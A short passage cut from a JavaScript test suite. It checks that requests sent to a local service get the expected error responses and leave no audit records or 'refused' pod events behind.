      const answer = await call(port, { token: tok, body: text });
      expect({ what, ...answer }).toMatchObject({ what, status, body: { error } });
    }
    // Answered after any write it would have made: nothing to wait for.
    expect((await auditRecords()).filter((r) => r.spec.session.pid === 7171)).toEqual([]);
    expect((await podEvents('web')).filter((e) => e.message?.includes('refused'))).toEqual([]);
  });
});
